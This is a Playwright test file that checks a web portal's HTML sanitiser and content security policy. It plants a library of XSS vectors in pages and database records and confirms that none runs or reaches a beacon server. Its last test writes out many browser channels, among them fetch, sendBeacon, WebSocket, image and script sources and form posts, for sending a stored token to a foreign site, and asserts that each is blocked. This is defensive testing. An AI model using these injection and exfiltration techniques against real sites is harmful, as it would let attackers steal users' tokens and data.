import { expect, type Page } from '@playwright/test'
import { sanitise } from '../apps/server/src/platform/html/sanitise.ts'
import { xssVectors } from '../apps/server/src/testing/attackers/xss-vectors.ts'
import { contentSlots, removePlanted } from './support/content-slots.ts'
import { activate, type Beacons, countExecutions, openBeacons } from './support/count-executions.ts'
import { runSql } from './support/people.ts'
import { nobody, test as portalTest } from './support/portals/portal-test.ts'

const test = portalTest.extend<{ ran: number[]; beacons: Beacons }>({
  // Counts for every page of the context, from its start.
  ran: [async ({ context }, use) => use(await countExecutions(context)), { auto: true }],
  // biome-ignore lint/correctness/noEmptyPattern: Playwright reads a fixture's dependencies from its pattern
  beacons: async ({}, use) => {
    const beacons = await openBeacons()
    await use(beacons)
    await beacons.close()
  },
})
test.use(nobody)
// Each place is opened about six times.
test.setTimeout(180_000)

const prefix = `xss-${process.pid}-`
const marker = 'Кінець перевірки'
/** Closes elements that the previous vector left open, so that they do not swallow the next one. */
const end = `<!-- --></script></style></textarea></title></xmp></noscript></noembed></noframes></iframe></template></select></svg></math></table>`
const batchSize = 180

function batches(foreign: string): string[] {
  const vectors = xssVectors(foreign)
  const swallowing = vectors.filter(({ html }) => /<plaintext|<frameset/i.test(html))
  const others = vectors.filter((vector) => !swallowing.includes(vector))
  const joined = Array.from({ length: Math.ceil(others.length / batchSize) }, (_, at) =>
    others
      .slice(at * batchSize, (at + 1) * batchSize)
      .map(({ html }) => html)
      .join(end),
  )
  return [...joined, ...swallowing.map(({ html }) => html)]
}

/** Inserts each text into the page as the portal's own code does: as trusted content, each in its own element. */
const show = (page: Page, texts: readonly string[]) =>
  page.evaluate(
    (texts) => {
      const trusted = (
        globalThis as unknown as {
          trustedTypes: { createPolicy: (name: string, rules: object) => { createHTML: (html: string) => string } }
        }
      ).trustedTypes
      const policy = trusted.createPolicy('zatyshok-content', { createHTML: (html: string) => html })
      // Some vectors overwrite properties of `document`.
      const main = document.querySelector('main')
      for (const html of texts) {
        const box = Document.prototype.createElement.call(document, 'div')
        main?.append(box)
        box.innerHTML = policy.createHTML(html)
      }
    },
    [...texts],
  )

test('XS1 control: without sanitising and without a policy most attacks run and send data', async ({
  page,
  ran,
  beacons,
  uncaughtErrors,
}) => {
  await page.goto(beacons.serve('<!doctype html><main></main>', {}))
  const vectors = xssVectors(beacons.origin).filter(({ html }) => !/<(base|meta|frameset|form)/i.test(html))
  await show(
    page,
    vectors.map(({ html }) => html),
  )
  await activate(page).catch(() => undefined)
  await expect.poll(() => new Set(ran).size).toBeGreaterThan(300)
  await expect.poll(() => beacons.received.length).toBeGreaterThan(5)
  uncaughtErrors.length = 0
})

test('XS1 XS3 XS5 seven hundred sanitised attacks run no script, send no request and clobber no name of a page', async ({
  page,
  ran,
  beacons,
}) => {
  await page.goto('/features')
  const before = await page.evaluate(() => Object.getOwnPropertyNames(window).length)
  await show(
    page,
    xssVectors(beacons.origin).map(({ html }) => sanitise(html)),
  )
  await activate(page)
  expect(ran).toEqual([])
  expect(beacons.received).toEqual([])
  expect(
    await page.locator('main').locator('form, input, iframe, object, embed, style, [style], [id^="x"], [name]').count(),
  ).toBe(0)
  // Global names of the page must not refer to inserted elements.
  expect(await page.evaluate(() => Object.getOwnPropertyNames(window).length)).toBe(before)
  expect(
    await page.evaluate(() => [
      typeof document.getElementById,
      (document.cookie as unknown) instanceof Element,
      document.forms.length,
    ]),
  ).toEqual(['function', false, 0])
})

for (const slot of contentSlots) {
  test(`XS1 XS6 attacks planted in the database run no script and send no request: ${slot.name}`, async ({
    page,
    ran,
    beacons,
  }) => {
    const texts = batches(beacons.origin)
    const name = (at: number) => `${prefix}${contentSlots.indexOf(slot)}-${at}`
    await runSql(texts.flatMap((html, at) => slot.plant(name(at), `${html}${end}<p>${marker}</p>`)))
    try {
      for (const at of texts.keys()) {
        await slot.open(page, name(at), marker)
        await activate(page)
        expect([at, ran, beacons.received]).toEqual([at, [], []])
      }
    } finally {
      await runSql(removePlanted(name(0).replace(/0$/, '')))
    }
  })
}

test('XS6 unsanitised attacks run no script and send no request: the content security policy is enough', async ({
  page,
  ran,
  beacons,
}) => {
  const response = await page.request.get('/features')
  const policy = { 'content-security-policy': response.headers()['content-security-policy'] ?? '' }
  const features = await response.text()
  for (const [at, html] of batches(beacons.origin).entries()) {
    const text = features.replace(/<main[^>]*>/, (main) => `${main}${html}${end}`)
    await page.goto(beacons.serve(text, policy))
    await activate(page)
    expect([at, ran, beacons.received]).toEqual([at, [], []])
  }
})

test('XS6 a script that still runs cannot send the stored token to another site', async ({
  page,
  beacons,
  uncaughtErrors,
}) => {
  await page.goto('/features')
  await page.evaluate(async (foreign) => {
    const address = `${foreign}/?token=${localStorage.length}`
    const quietly = async (work: () => unknown) => {
      try {
        await work()
      } catch {}
    }
    await quietly(() => fetch(address, { mode: 'no-cors' }))
    await quietly(() => fetch(address, { method: 'POST', body: 'token' }))
    await quietly(() => navigator.sendBeacon(address, 'token'))
    await quietly(() => new WebSocket(address.replace('http', 'ws')))
    await quietly(() => new EventSource(address))
    await quietly(() => new XMLHttpRequest().open('GET', address))
    await quietly(() => {
      new Image().src = address
    })
    for (const [tag, name] of [
      ['link', 'href'],
      ['script', 'src'],
      ['iframe', 'src'],
      ['object', 'data'],
      ['video', 'src'],
      ['embed', 'src'],
    ] as const)
      await quietly(() => {
        const element = document.createElement(tag)
        if (tag === 'link') element.setAttribute('rel', 'stylesheet')
        element.setAttribute(name, address)
        document.body.append(element)
      })
    await quietly(() => new Worker(address))
    await quietly(() => {
      const form = Object.assign(document.createElement('form'), { action: address, method: 'post' })
      document.body.append(form)
      form.submit()
    })
    await new Promise((resolve) => setTimeout(resolve, 300))
  }, beacons.origin)
  uncaughtErrors.length = 0
  expect(beacons.received).toEqual([])
})
